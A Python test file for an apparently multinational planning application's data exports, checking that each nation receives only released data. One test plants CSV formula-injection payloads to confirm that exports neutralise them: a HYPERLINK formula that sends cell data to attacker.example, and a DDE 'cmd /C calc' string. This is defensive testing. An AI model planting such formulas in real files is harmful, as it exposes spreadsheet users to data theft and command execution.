"""Downloads hold only what the caller sees: scenario YAML and pledge tables that re-import, incident CSV, JSON
and GeoJSON, indicator CSV, and a nation's tours as iCalendar."""

from __future__ import annotations

import io
import json
from pathlib import Path

import yaml
from openpyxl import load_workbook

from tests.api.conftest import Api, attacks_csv


def test_scenario_exports_hold_only_released_pledges(api: Api, tmp_path: Path) -> None:
    api.load_sample(tmp_path)
    gbr = yaml.safe_load(api.get("/scenarios/small/export.yaml", "GBR").text)
    deu = yaml.safe_load(api.get("/scenarios/small/export.yaml", "DEU").text)
    assert {p["key"] for p in gbr["pledges"]} == {"FRA-FS", "GBR-FS"}
    assert [p["key"] for p in deu["pledges"]] == ["FRA-FS"]
    table = api.get("/scenarios/small/pledges.csv", "DEU")
    assert table.headers["content-type"].startswith("text/csv")
    assert "GBR-FS" not in table.text and "FRA-FS" in table.text
    sheet = load_workbook(io.BytesIO(api.get("/scenarios/small/pledges.xlsx", "GBR").content)).active
    assert sheet is not None and sheet.max_row == 3


def test_incident_exports_follow_releasability(api: Api, tmp_path: Path) -> None:
    api.ingest(tmp_path, attacks_csv(1), nation="DEU", marking="PUBLIC")
    api.ingest(tmp_path, attacks_csv(2), nation="FRA", marking=",FRA,")
    assert len(json.loads(api.get("/incidents.json", "DEU").text)) == 8
    assert len(json.loads(api.get("/incidents.json", "FRA").text)) == 16
    csv_lines = api.get("/incidents.csv", "DEU").text.strip().splitlines()
    assert len(csv_lines) == 9 and csv_lines[0].startswith("key,")
    geo = json.loads(api.get("/incidents.geojson", "DEU").text)
    assert geo["type"] == "FeatureCollection" and geo["without_coordinates"] + len(geo["features"]) == 8
    indicators = api.get("/indicators.csv", "FRA").text.strip().splitlines()
    assert len(indicators) == 3 and "destroyed_rate" in indicators[0]


def test_a_nations_tours_as_a_calendar(api: Api, tmp_path: Path) -> None:
    api.load_sample(tmp_path)
    plan = api.store_sample_plan("FRA")
    ics = api.get(f"/plans/{plan}/tours.ics", "GBR", nation="FRA")
    assert ics.status_code == 200 and ics.headers["content-type"].startswith("text/calendar")
    text = ics.text
    assert text.startswith("BEGIN:VCALENDAR\r\n") and text.endswith("END:VCALENDAR\r\n")
    events = text.count("BEGIN:VEVENT")
    tours = api.get(f"/plans/{plan}/tours.csv", "GBR", nation="FRA").text.strip().splitlines()
    assert events == len(tours) - 1 > 0 and "DTSTART;VALUE=DATE:2027" in text and "planning assumption" in text
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    assert api.get(f"/plans/{plan}/tours.ics", "DEU").status_code == 404


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _evaluated_cells(text: str) -> list[str]:
    """Return the CSV cells a spreadsheet would read as a formula (numbers aside: -3 is a number, not a formula)."""
    import csv

    found = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            try:
                float(cell)
            except ValueError:
                if cell.startswith(FORMULA_STARTS):
                    found.append(cell)
    return found


def test_spreadsheets_carry_no_formula_from_another_nations_public_data(api: Api, tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://attacker.example/?"&A3,"click")'
    api.load_sample(tmp_path)
    from reassure.db.uow import unit_of_work
    from reassure.domains.pledges.models import Pledge
    from tests.conftest import who

    with unit_of_work(api.settings, identity=who("FRA")) as db:  # a PUBLIC note another nation wrote
        for pledge in db.query(Pledge):
            pledge.notes = hostile
    api.ingest(tmp_path, "time_start,time_end,model,launched,destroyed,target\n"
               "2025-01-01 18:00,2025-01-02 08:00,Shahed-136/131,10,9,@SUM(1+1)*cmd|' /C calc'!A0\n", nation="FRA")
    plan = api.store_sample_plan("FRA")
    for path in ("/scenarios/small/pledges.csv", "/incidents.csv", "/indicators.csv", f"/plans/{plan}/tours.csv"):
        answer = api.get(path, "GBR")
        assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv"), path
        assert not answer.content.startswith(b"\xef\xbb\xbf")  # no byte-order mark unless asked for
        assert _evaluated_cells(answer.text) == [], path
        marked = api.get(path, "GBR", bom="true")
        assert marked.content == b"\xef\xbb\xbf" + answer.content, path
    import csv

    notes = [r["notes"] for r in csv.DictReader(io.StringIO(api.get("/scenarios/small/pledges.csv", "GBR").text))]
    assert notes == [f"'{hostile}"] * 2
    assert "'@SUM(1+1)" in api.get("/incidents.csv", "GBR").text
    sheet = load_workbook(io.BytesIO(api.get("/scenarios/small/pledges.xlsx", "GBR").content)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if c.value == hostile] == [hostile, hostile]


def test_incident_exports_carry_the_standing_and_every_compared_figure(api: Api, tmp_path: Path) -> None:
    from reassure.db.uow import unit_of_work
    from reassure.domains.incidents.actions import ingest_report
    from tests.conftest import who

    api.ingest(tmp_path, attacks_csv(1, days=1), nation="DEU", marking="PUBLIC")
    with unit_of_work(api.settings, identity=who("DEU")) as db:
        ingest_report("From 18:00 on 1 January 2025 Russia launched 160 Shahed drones.", db=db, name="w.txt",
                      publisher="Wire", rel_to="PUBLIC")
    table = api.get("/incidents.csv", "GBR")
    assert table.status_code == 200 and "conflicting" in table.text
    assert "drones launched: conflict (mmau 101, file-w 160)" in table.text
    (row,) = api.get("/incidents.json", "GBR").json()
    assert row["standing"] == "conflicting" and row["figures"][0]["values"][1]["shown"] == "160"
